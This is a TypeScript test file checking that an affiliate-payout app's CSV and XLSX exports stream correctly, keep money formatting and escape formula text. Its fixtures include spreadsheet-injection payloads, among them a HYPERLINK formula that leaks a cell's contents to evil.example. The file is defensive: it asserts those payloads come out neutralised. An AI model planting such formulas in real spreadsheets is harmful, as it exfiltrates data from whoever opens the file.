// Exports (issue #5): CSV and XLSX of conversions and payout batches, streamed, formula-injection-safe, on both
// databases, over real HTTP.
import http from 'node:http';
import BetterSqlite3 from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import Fastify from 'fastify';
import type {
  KyselyPlugin,
  PluginTransformQueryArgs,
  PluginTransformResultArgs,
  QueryResult,
  RootOperationNode,
  UnknownRow,
} from 'kysely';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_PAGE_SIZE } from '../src/app/conversion-export.js';
import { approveDue } from '../src/app/conversions.js';
import { createWorkspace } from '../src/app/workspaces.js';
import { loadConfig } from '../src/config.js';
import { fixedDecimal } from '../src/core/csv-stream.js';
import { newId } from '../src/core/ids.js';
import { buildApp, type BuiltApp } from '../src/http/app.js';
import { exportStream, sendExport, type ExportCell, type ExportFormat } from '../src/http/export.js';
import { addCreators, startTestApp, type TestApp } from './helpers/app.js';
import { DIALECTS, freshStore, type TestStore } from './helpers/stores.js';

type Cell = string | number | null;
const FORMULA = /^[=+\-@\t\r]/;
const escaped = (v: string) => (FORMULA.test(v) ? `'${v}` : v);
const UA =
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15';

function readCsv(body: Buffer | string): string[][] {
  return parse(body.toString(), { bom: true, record_delimiter: '\r\n' }) as string[][];
}

/** The expected CSV text of a cell: numbers as JavaScript prints them, text escaped. */
/** amount, refunded, commission in the conversions export. */
const MONEY_COLUMNS = [12, 14, 15];
const csvText = (v: Cell) => (v === null ? '' : typeof v === 'number' ? String(v) : escaped(v));

async function readXlsx(
  body: Buffer,
): Promise<{ sheets: string[]; rows: Cell[][]; numFmts: (string | undefined)[][] }> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const rows: Cell[][] = [];
  const numFmts: (string | undefined)[][] = [];
  for (const ws of wb.worksheets) {
    const width = ws.getRow(1).cellCount;
    ws.eachRow({ includeEmpty: true }, (row) => {
      const cells = Array.from({ length: width }, (_, i) => row.getCell(i + 1));
      rows.push(cells.map((c) => (c.value === null || c.value === undefined ? null : (c.value as string | number))));
      numFmts.push(cells.map((c) => c.numFmt));
    });
  }
  return { sheets: wb.worksheets.map((w) => w.name), rows, numFmts };
}

/**
 * The expected XLSX value of a cell. XML turns a carriage return into a line feed when the file is read (any reader
 * does, Excel included), so a CR-led name comes back LF-led, still behind the quote.
 */
const xlsxValue = (v: Cell) => (typeof v === 'string' ? escaped(v).replace(/\r/g, '\n') : v);

interface Download {
  status: number;
  headers: http.IncomingHttpHeaders;
  body: Buffer;
  /** false when the connection ended before the response did (status 0: before its headers). */
  complete: boolean;
}

function download(url: string, apiKey: string, onFirstBytes?: () => void): Promise<Download> {
  return new Promise((resolve) => {
    const req = http.get(url, { agent: false, headers: { authorization: `Bearer ${apiKey}` } }, (res) => {
      const chunks: Buffer[] = [];
      res.on('data', (c: Buffer) => {
        if (!chunks.length) onFirstBytes?.();
        chunks.push(c);
      });
      res.on('error', () => {}); // "aborted": reported through `complete`
      res.on('close', () =>
        resolve({ status: res.statusCode!, headers: res.headers, body: Buffer.concat(chunks), complete: res.complete }),
      );
    });
    // The connection closed before any response: as broken as a response cut short.
    req.on('error', () => resolve({ status: 0, headers: {}, body: Buffer.alloc(0), complete: false }));
  });
}

describe('the export helper', () => {
  const table = {
    filename: 'weird name/../é',
    columns: ['text', 'number', { name: 'money', decimals: 2 }],
    rows: [
      ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', -37.5, -4.5],
      ['+1+1', -1, 0],
      ['-2+3', 0, 12.3],
      ['@SUM(A1:A9)', 1e21, 1234.5],
      ['\t=1+1', 3, -0.05],
      ['\r=1+1', 7, 100],
      ['plain, "quoted"', 2.5, null],
      [null, null, 1],
    ] as Cell[][],
  };
  const app = Fastify();
  app.get('/file', async (req, reply) => sendExport(reply, (req.query as { format: ExportFormat }).format, table));

  it('escapes formula text and keeps negative numbers numbers, in CSV and XLSX', async () => {
    const csv = await app.inject({ url: '/file?format=csv' });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(csv.headers['content-disposition']).toBe('attachment; filename="weird-name.csv"');
    expect(csv.headers['cache-control']).toBe('no-store');
    expect(csv.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const lines = readCsv(csv.rawPayload);
    expect(lines[0]).toEqual(['text', 'number', 'money']);
    expect(lines.slice(1)).toEqual(
      table.rows.map((r) => [csvText(r[0]!), csvText(r[1]!), r[2] === null ? '' : (r[2] as number).toFixed(2)]),
    );
    expect(lines[1]).toEqual([`'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`, '-37.5', '-4.50']);

    const xlsx = await app.inject({ url: '/file?format=xlsx' });
    expect(xlsx.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(xlsx.headers['content-disposition']).toBe('attachment; filename="weird-name.xlsx"');
    const sheet = await readXlsx(xlsx.rawPayload);
    expect(sheet.rows).toEqual([['text', 'number', 'money'], ...table.rows.map((r) => r.map(xlsxValue))]);
    expect(sheet.rows[1]![1]).toBe(-37.5);
    expect(
      sheet.numFmts
        .slice(1)
        .filter((_, i) => table.rows[i]![2] !== null)
        .map((f) => f[2]),
    ).toEqual(Array(7).fill('0.00'));
  });

  it("prints a fixed-decimal cell with its own row's decimals: CSV padded, XLSX formatted", async () => {
    const money: ExportCell[][] = [
      [fixedDecimal(5000, 0), 'JPY'],
      [fixedDecimal(12.5, 3), 'KWD'],
      [fixedDecimal(-59.9, 2), 'USD'],
      [null, 'EUR'],
    ];
    const t2 = { filename: 'money', columns: ['amount', 'currency'], rows: money };
    const collect = async (format: ExportFormat) => {
      const chunks: Buffer[] = [];
      for await (const c of exportStream(format, t2)) chunks.push(Buffer.from(c));
      return Buffer.concat(chunks);
    };
    const csv = readCsv(await collect('csv'));
    expect(csv).toEqual([
      ['amount', 'currency'],
      ['5000', 'JPY'],
      ['12.500', 'KWD'],
      ['-59.90', 'USD'],
      ['', 'EUR'],
    ]);
    const book = await readXlsx(await collect('xlsx'));
    expect(book.rows.slice(1).map((r) => r[0])).toEqual([5000, 12.5, -59.9, null]);
    expect(book.numFmts.slice(1, 4).map((f) => f[0])).toEqual(['0', '0.000', '0.00']);
  });

  it('continues on a new sheet, with the header again, past the rows a sheet holds', async () => {
    const chunks: Buffer[] = [];
    for await (const c of exportStream('xlsx', { ...table, rows: table.rows }, { sheetRows: 4 }))
      chunks.push(c as Buffer);
    const book = await readXlsx(Buffer.concat(chunks));
    expect(book.sheets).toEqual(['Export', 'Export 2', 'Export 3']);
    const header = ['text', 'number', 'money'];
    expect(book.rows.filter((r) => r[0] === 'text')).toHaveLength(3);
    expect(book.rows.filter((r) => r[0] !== 'text')).toEqual(table.rows.map((r) => r.map(xlsxValue)));
    expect(book.rows[0]).toEqual(header);
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: a consumer that stops reading stops the row source (backpressure), and closing it closes the source',
    async (format) => {
      const total = 200_000;
      let pulled = 0;
      let closed = false;
      async function* rows(): AsyncGenerator<ExportCell[]> {
        try {
          // Random text, so the zip cannot shrink the file into its buffers.
          for (let i = 0; i < total; i++, pulled++)
            yield [`row ${i} ${Math.random().toString(36).repeat(4)}`, i, -i / 4];
        } finally {
          closed = true;
        }
      }
      const stream = exportStream(format, { filename: 'x', columns: ['a', 'b', 'c'], rows: rows() });
      await new Promise((r) => stream.once('readable', r));
      stream.read(1); // one byte, then nothing
      // Wait until the producer is parked: the count stops moving.
      for (let last = -1, still = 0; still < 10;) {
        await new Promise((r) => setTimeout(r, 30));
        still = pulled === last ? still + 1 : 0;
        last = pulled;
      }
      expect(pulled).toBeGreaterThan(0);
      expect(pulled).toBeLessThan(total / 2);
      stream.destroy();
      await new Promise((r) => setTimeout(r, 50));
      expect(closed).toBe(true);
    },
  );
});

/** Counts the export's page queries (select … from conversions … limit) and can hold a page's rows back. */
class PageProbe implements KyselyPlugin {
  events: string[] = [];
  pages = 0;
  gate: ((page: number) => Promise<void>) | null = null;
  #pending = new WeakMap<object, number>();

  transformQuery(args: PluginTransformQueryArgs): RootOperationNode {
    const node = args.node as {
      kind: string;
      from?: { froms: { table?: { identifier?: { name?: string } } }[] };
      limit?: unknown;
    };
    const table = node.from?.froms[0]?.table?.identifier?.name;
    if (node.kind === 'SelectQueryNode' && table === 'conversions' && node.limit)
      this.#pending.set(args.queryId, ++this.pages);
    return args.node;
  }

  async transformResult(args: PluginTransformResultArgs): Promise<QueryResult<UnknownRow>> {
    const page = this.#pending.get(args.queryId);
    if (page !== undefined) {
      if (this.gate) await this.gate(page);
      this.events.push(`page ${page}`);
    }
    return args.result;
  }

  reset(): void {
    this.events = [];
    this.pages = 0;
    this.gate = null;
  }
}

describe.each(DIALECTS)('exports on %s', (kind) => {
  let t: TestApp;
  let now = Date.UTC(2026, 10, 2, 12);
  const names = ['=HYPERLINK("http://evil.example/","x")', '+Plus', '-Minus', '@At', 'Tab', 'Cr', 'Plain'];
  let creators: Record<string, { id: string; slug: string; code: string }> = {};
  let offerId: string;

  const postback = async (query: Record<string, string>) => {
    const secret = (await t.api('GET', '/workspace')).data.postbackSecret;
    const res = await t.built.app.inject({ url: `/postback?${new URLSearchParams({ secret, ...query })}` });
    expect(res.statusCode, res.body).toBe(200);
    return res.json();
  };
  const raw = (url: string) =>
    t.built.app.inject({ url: `/api/v1${url}`, headers: { authorization: `Bearer ${t.apiKey}` } });

  beforeAll(async () => {
    t = await startTestApp(kind, {}, () => now);
    const offer = await t.api('POST', '/offers', {
      name: '-Spring =sale',
      destinationUrl: 'https://shop.example.com/',
      attributionRule: 'split',
      holdDays: 1,
      payoutOptions: [{ title: '10%', type: 'percent', value: '10' }],
    });
    expect(offer.statusCode, offer.body).toBe(201);
    offerId = offer.data.id;
    const made = await addCreators(t, offerId, names, 'C{RAND6}');
    creators = Object.fromEntries(names.map((n, i) => [n, made[i]!]));
    // Names a person cannot type through the API (it trims), but an import or an older version may have stored.
    await t.db.store.db.updateTable('members').set({ name: '\tTab' }).where('id', '=', creators.Tab!.id).execute();
    await t.db.store.db.updateTable('members').set({ name: '\rCr' }).where('id', '=', creators.Cr!.id).execute();
    for (const [i, n] of names.entries()) {
      await t.db.store.db
        .updateTable('members')
        .set({ email: `${n === '-Minus' ? '-' : ''}m${i}@example.com` })
        .where('id', '=', creators[n]!.id)
        .execute();
    }

    const sales: [string, string, string][] = [
      ['=1+1', names[0]!, '49.90'],
      ['+ORDER', '+Plus', '120.00'],
      ['-5', '-Minus', '10.05'],
      ['@SUM(A1)', '@At', '33.00'],
      ['ORD-TAB', 'Tab', '20.00'],
      ['ORD-CR', 'Cr', '80.00'],
      ['ORD-PLAIN', 'Plain', '15.00'],
    ];
    for (const [order, member, amount] of sales) {
      now += 60_000;
      await postback({ order, code: creators[member]!.code, amount, currency: 'USD' });
    }
    // Split: a click of one member, the code of another.
    now += 60_000;
    const click = await t.built.app.inject({ url: `/${creators['-Minus']!.slug}`, headers: { 'user-agent': UA } });
    const clickId = new URL(click.headers.location as string).searchParams.get('tp_click')!;
    await new Promise((r) => setTimeout(r, 120)); // the click buffer writes every 50 ms here
    const split = await postback({
      order: 'ORD-SPLIT',
      click: clickId,
      code: creators['+Plus']!.code,
      amount: '200.00',
    });
    expect(split.commissions).toHaveLength(2);
    // Codes nobody has, as a sender typed them: unattributed, kept with the code.
    for (const code of ['=CMD', '-SALE', '+X', '@Y']) {
      now += 60_000;
      await postback({ order: `ORD-UNK${code}`, code, amount: '5.00' });
    }
    now += 60_000;
    await postback({ type: 'refund', order: 'ORD-CR' });
    await postback({ type: 'refund', order: 'ORD-PLAIN', amount: '5.00' });
  });
  afterAll(() => t.close());

  const list = (xs: string[]) => (xs.length ? xs.join('; ') : null);

  /** The export's rows as the JSON API describes the same conversions. */
  async function expectedRows(query: string): Promise<Cell[][]> {
    const listed = (await t.api('GET', `/conversions?limit=200${query}`)).data.data as any[];
    const members = new Map<string, string>(
      (await t.db.store.db.selectFrom('members').select(['id', 'name']).execute()).map((m) => [m.id, m.name]),
    );
    const offers = new Map<string, string>(
      ((await t.api('GET', '/offers?limit=100')).data.data as any[]).map((o) => [o.id, o.name]),
    );
    const rows: Cell[][] = [];
    for (const c of listed) {
      const detail = (await t.api('GET', `/conversions/${c.id}`)).data;
      const credits = c.credits as { offerId: string; memberId: string | null; source: string }[];
      const offerIds = credits.length
        ? [...new Set(credits.map((x) => x.offerId))]
        : c.reportedOfferId
          ? [c.reportedOfferId]
          : [];
      const memberIds = credits.flatMap((x) => (x.memberId ? [x.memberId] : []));
      const commissions = [...(detail.commissions as any[])].sort(
        (a, b) => memberIds.indexOf(a.memberId) - memberIds.indexOf(b.memberId),
      );
      const kept = commissions.filter((x) => x.status !== 'reversed').reduce((n, x) => n + x.amountMinor, 0);
      rows.push([
        c.id,
        c.orderId,
        c.occurredAt,
        c.status,
        list(c.reasons),
        list(offerIds),
        list(offerIds.map((id) => offers.get(id)!)),
        list(memberIds),
        list(memberIds.map((id) => members.get(id)!)),
        list(credits.map((x) => x.source)),
        c.code,
        c.clickId,
        c.amount === null ? null : Number(c.amount),
        c.currency,
        Number(c.refunded),
        commissions.length ? kept / 100 : null,
        commissions.length ? 'USD' : null,
        list(commissions.map((x) => x.status)),
      ]);
    }
    return rows;
  }

  it('exports conversions as CSV and XLSX equal to the JSON list, formula text escaped, numbers numbers', async () => {
    const expected = await expectedRows('');
    expect(expected).toHaveLength(12);

    const csv = await raw('/conversions/export?format=csv');
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.headers['content-disposition']).toBe('attachment; filename="conversions-2026-11-02.csv"');
    const [header, ...lines] = readCsv(csv.rawPayload);
    expect(header).toEqual([
      'id',
      'order_id',
      'occurred_at',
      'status',
      'reasons',
      'offer_ids',
      'offers',
      'member_ids',
      'members',
      'sources',
      'code',
      'click_id',
      'amount',
      'currency',
      'refunded',
      'commission',
      'commission_currency',
      'commission_statuses',
    ]);
    // Money (amount, refunded, commission) prints with its currency's decimals, as in the payout export.
    expect(lines).toEqual(
      expected.map((r) =>
        r.map((v, i) => (MONEY_COLUMNS.includes(i) && typeof v === 'number' ? v.toFixed(2) : csvText(v))),
      ),
    );

    const xlsx = await raw('/conversions/export?format=xlsx');
    expect(xlsx.statusCode).toBe(200);
    const book = await readXlsx(xlsx.rawPayload);
    expect(book.rows[0]).toEqual(header);
    expect(book.rows.slice(1)).toEqual(expected.map((r) => r.map(xlsxValue)));
    const formats = book.numFmts
      .slice(1)
      .flatMap((f, n) => MONEY_COLUMNS.filter((i) => expected[n]![i] !== null).map((i) => f[i]));
    expect(formats.length).toBeGreaterThan(20);
    expect(new Set(formats)).toEqual(new Set(['0.00']));

    // What the escaping did, spelled out for the cells an attacker controls.
    const byOrder = new Map(lines.map((l) => [l[1], l]));
    const xlsxByOrder = new Map(book.rows.slice(1).map((r) => [String(r[1]).replace(/^'/, ''), r]));
    expect([...byOrder.keys()]).toEqual(expect.arrayContaining(["'=1+1", "'+ORDER", "'-5", "'@SUM(A1)"]));
    expect(byOrder.get("'=1+1")![8]).toBe(`'=HYPERLINK("http://evil.example/","x")`);
    expect(byOrder.get('ORD-TAB')![8]).toBe("'\tTab");
    expect(byOrder.get('ORD-CR')![8]).toBe("'\rCr");
    expect(byOrder.get('ORD-CR')![14]).toBe('80.00'); // refunded in full
    expect(byOrder.get('ORD-CR')![17]).toBe('reversed');
    expect(byOrder.get('ORD-UNK=CMD')![10]).toBe("'=CMD");
    expect(byOrder.get('ORD-UNK-SALE')![10]).toBe("'-SALE");
    expect(byOrder.get('ORD-SPLIT')![8]).toBe("'-Minus; +Plus");
    expect(byOrder.get('ORD-SPLIT')![15]).toBe('20.00');
    expect(byOrder.get('=1+1'.replace(/^/, "'"))![12]).toBe('49.90');
    expect(byOrder.get("'-5")![12]).toBe('10.05');
    expect(xlsxByOrder.get('-5')![12]).toBe(10.05);
    expect(xlsxByOrder.get('ORD-TAB')![8]).toBe("'\tTab");
    expect(xlsxByOrder.get('ORD-UNK@Y')![10]).toBe("'@Y");
    expect(xlsxByOrder.get('ORD-PLAIN')![14]).toBe(5);
  });

  it('applies the list filters to the export', async () => {
    const ids = async (query: string) =>
      ((await t.api('GET', `/conversions?limit=200${query}`)).data.data as { id: string }[]).map((c) => c.id);
    for (const query of [
      '&status=unattributed',
      `&memberId=${creators['+Plus']!.id}`,
      '&code=-sale',
      `&offerId=${offerId}&status=credited`,
    ]) {
      const listed = await ids(query);
      expect(listed.length, query).toBeGreaterThan(0);
      const csv = readCsv((await raw(`/conversions/export?format=csv${query}`)).rawPayload).slice(1);
      expect(
        csv.map((l) => l[0]),
        query,
      ).toEqual(listed);
      const xlsx = (await readXlsx((await raw(`/conversions/export?format=xlsx${query}`)).rawPayload)).rows.slice(1);
      expect(
        xlsx.map((r) => r[0]),
        query,
      ).toEqual(listed);
    }
    const none = readCsv((await raw('/conversions/export?test=true')).rawPayload);
    expect(none).toEqual([expect.arrayContaining(['id', 'order_id'])]);
  });

  it('refuses a format it does not make, with its own code', async () => {
    for (const url of [
      '/conversions/export?format=pdf',
      '/conversions/export?format=',
      '/payout-batches/pob_00000000000000000000000000/export?format=xls',
    ]) {
      const res = await raw(url);
      expect(res.statusCode, url).toBe(400);
      expect(res.json().error.code, url).toBe('format_unsupported');
    }
    expect((await raw('/conversions/export?format=XLSX')).statusCode).toBe(200);
  });

  it('exports a payout batch as CSV, XLSX and PayPal, and refuses PayPal an email it would have to alter', async () => {
    now += 2 * 86_400_000;
    expect(await approveDue(t.built.ctx)).toBeGreaterThan(0);
    const batch = await t.api('POST', '/payout-batches', { currency: 'USD' });
    expect(batch.statusCode, batch.body).toBe(201);
    const lines = batch.data.lines as {
      memberId: string;
      name: string;
      email: string;
      commissions: number;
      amount: string;
    }[];
    const expected: Cell[][] = lines.map((l) => [
      l.memberId,
      l.name,
      l.email,
      l.commissions,
      Number(l.amount),
      'USD',
      batch.data.id,
    ]);

    const csv = await raw(`/payout-batches/${batch.data.id}/export?format=csv`);
    expect(readCsv(csv.rawPayload)).toEqual([
      ['member_id', 'name', 'email', 'commissions', 'amount', 'currency', 'batch'],
      ...expected.map((r) => r.map((v, i) => (i === 4 ? (v as number).toFixed(2) : csvText(v)))),
    ]);
    const xlsx = await raw(`/payout-batches/${batch.data.id}/export?format=xlsx`);
    expect(xlsx.headers['content-disposition']).toBe(`attachment; filename="${batch.data.id}.xlsx"`);
    const book = await readXlsx(xlsx.rawPayload);
    expect(book.rows.slice(1)).toEqual(expected.map((r) => r.map(xlsxValue)));
    expect(book.numFmts[1]![4]).toBe('0.00');
    expect(book.rows.map((r) => r[1])).toContain(`'=HYPERLINK("http://evil.example/","x")`);

    const paypal = await raw(`/payout-batches/${batch.data.id}/export?format=paypal`);
    expect(paypal.statusCode).toBe(409);
    expect(paypal.json().error).toMatchObject({
      code: 'payout_email_unsafe',
      details: [{ path: creators['-Minus']!.id }],
    });
    await t.db.store.db
      .updateTable('members')
      .set({ email: 'minus@example.com' })
      .where('id', '=', creators['-Minus']!.id)
      .execute();
    const fixed = await raw(`/payout-batches/${batch.data.id}/export?format=paypal`);
    expect(fixed.statusCode).toBe(200);
    expect(fixed.rawPayload[0]).not.toBe(0xef); // no byte-order mark, no header: PayPal's format
    const minus = creators['-Minus']!.id;
    expect(readCsv(fixed.rawPayload).map((r) => r.slice(0, 3))).toEqual(
      lines.map((l) => [l.memberId === minus ? 'minus@example.com' : l.email, l.amount, 'USD']),
    );
  });

  it("prints each conversion's money with its own currency's decimals (JPY none, KWD three)", async () => {
    const cases: [string, string, string, string][] = [
      ['JPY', '5000', '1200', '380'],
      ['KWD', '12.500', '0.250', '1.225'],
    ];
    for (const [currency, amount, refund, commission] of cases) {
      const ws = await t.newWorkspace(`In ${currency}`);
      const offer = await t.api(
        'POST',
        '/offers',
        {
          name: currency,
          destinationUrl: 'https://shop.example.com/',
          currency,
          holdDays: 1,
          payoutOptions: [{ title: '10%', type: 'percent', value: '10' }],
        },
        ws.apiKey,
      );
      expect(offer.statusCode, offer.body).toBe(201);
      const [aki] = await addCreators(t, offer.data.id, ['Aki'], '{NAME}{RAND4}', ws.apiKey);
      const secret = (await t.api('GET', '/workspace', undefined, ws.apiKey)).data.postbackSecret;
      const events: Record<string, string>[] = [
        { code: aki!.code, order: `O-${currency}`, amount, currency },
        { type: 'refund', order: `O-${currency}`, amount: refund, currency },
      ];
      for (const q of events) {
        const res = await t.built.app.inject({ url: `/postback?${new URLSearchParams({ secret, ...q })}` });
        expect(res.statusCode, res.body).toBe(200);
      }
      const exported = t.built.app.inject({
        url: '/api/v1/conversions/export?format=csv',
        headers: { authorization: `Bearer ${ws.apiKey}` },
      });
      const [, line] = readCsv((await exported).rawPayload);
      expect([line![12], line![13], line![14], line![15], line![16]]).toEqual([
        amount,
        currency,
        refund,
        commission,
        currency,
      ]);
      const listed = (await t.api('GET', '/conversions', undefined, ws.apiKey)).data.data[0];
      expect([listed.amount, listed.refunded]).toEqual([amount, refund]);
    }
  });
});

describe.each(DIALECTS)('streaming exports on %s', (kind) => {
  const ROWS = EXPORT_PAGE_SIZE * 2.5; // three pages
  let fresh: TestStore;
  let built: BuiltApp;
  let apiKey: string;
  let base: string;
  const probe = new PageProbe();

  beforeAll(async () => {
    fresh = await freshStore(kind);
    const config = loadConfig({ BASE_URL: 'http://tp.test', DATA_DIR: fresh.dataDir }, { clickFlushMs: 50 });
    built = await buildApp(config, { store: { ...fresh.store, db: fresh.store.db.withPlugin(probe) }, logger: false });
    const ws = await createWorkspace(built.ctx, { name: 'Big' });
    if (!ws.ok) throw new Error(ws.problem.message);
    apiKey = ws.value.apiKey;
    const at = Date.UTC(2026, 9, 1);
    const decision = JSON.stringify({ outcome: 'unattributed', reasons: ['no_click_no_code'], credits: [] });
    for (let i = 0; i < ROWS; i += 500) {
      await fresh.store.db
        .insertInto('conversions')
        .values(
          Array.from({ length: 500 }, (_, j) => ({
            id: newId('cnv', at + i + j),
            workspace_id: ws.value.workspace.id,
            order_id: `BIG-${i + j}`,
            is_test: 0,
            status: 'unattributed' as const,
            occurred_at: at + i + j,
            reported_offer_id: null,
            click_id: null,
            code: null,
            amount_minor: 1000 + i + j,
            currency: 'USD',
            refunded_minor: 0,
            refunded_full: 0,
            cancelled_at: null,
            review: null,
            decision,
            created_at: at + i + j,
            updated_at: at + i + j,
          })),
        )
        .execute();
    }
    await built.app.listen({ port: 0, host: '127.0.0.1' });
    const address = built.app.server.address() as { port: number };
    base = `http://127.0.0.1:${address.port}/api/v1/conversions/export`;
  });
  afterAll(async () => {
    await built.close();
    await fresh.cleanup();
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: reads page by page, and the first bytes arrive before the last page is read',
    async (format) => {
      probe.reset();
      let arrived!: () => void;
      const firstBytes = new Promise<void>((r) => (arrived = r));
      // Pages after the first wait for the client's first bytes. A response built whole would never send any before
      // its last page: the timer only keeps that failure from hanging, and the order below shows it.
      probe.gate = async (page) => {
        if (page >= 2) await Promise.race([firstBytes, new Promise((r) => setTimeout(r, 10_000))]);
      };
      const res = await download(`${base}?format=${format}`, apiKey, () => {
        probe.events.push('first bytes');
        arrived();
      });
      expect(res.complete).toBe(true);
      expect(probe.pages).toBe(3);
      expect(probe.events).toEqual(['page 1', 'first bytes', 'page 2', 'page 3']);
      const rows = format === 'csv' ? readCsv(res.body) : (await readXlsx(res.body)).rows;
      expect(rows).toHaveLength(ROWS + 1);
      expect(rows[1]![1]).toBe(`BIG-${ROWS - 1}`);
      expect(rows[ROWS]![1]).toBe('BIG-0');
    },
  );

  it.each(['csv', 'xlsx'] as const)(
    '%s: a database failure mid-export aborts the response instead of ending a short file',
    async (format) => {
      probe.reset();
      const rename = async (from: string, to: string) => {
        if (kind === 'sqlite') {
          const other = new BetterSqlite3(fresh.url);
          other.pragma('busy_timeout = 5000');
          other.exec(`alter table ${from} rename to ${to}`);
          other.close();
        } else {
          const other = new pg.Client({ connectionString: fresh.url });
          await other.connect();
          await other.query(`alter table ${from} rename to ${to}`);
          await other.end();
        }
      };
      // Page 2 is read; then the table goes away, so page 3 fails.
      probe.gate = async (page) => {
        if (page === 2) await rename('conversions', 'conversions_away');
      };
      try {
        const res = await download(`${base}?format=${format}`, apiKey);
        // Cut mid-body, or (when nothing had been flushed yet, as on SQLite whose queries never yield) before the
        // headers: either way the client sees a failed download, never a short file that ends cleanly.
        expect(res.complete).toBe(false);
        expect([0, 200]).toContain(res.status);
        expect(probe.events).toEqual(['page 1', 'page 2']);
        // Failing before the first byte is an ordinary error reply.
        probe.reset();
        const early = await download(`${base}?format=${format}`, apiKey);
        expect(early.status).toBe(500);
        expect(JSON.parse(early.body.toString()).error.code).toBe('internal');
      } finally {
        await rename('conversions_away', 'conversions');
      }
      const again = await download(`${base}?format=${format}`, apiKey);
      expect(again.complete).toBe(true);
    },
  );
});
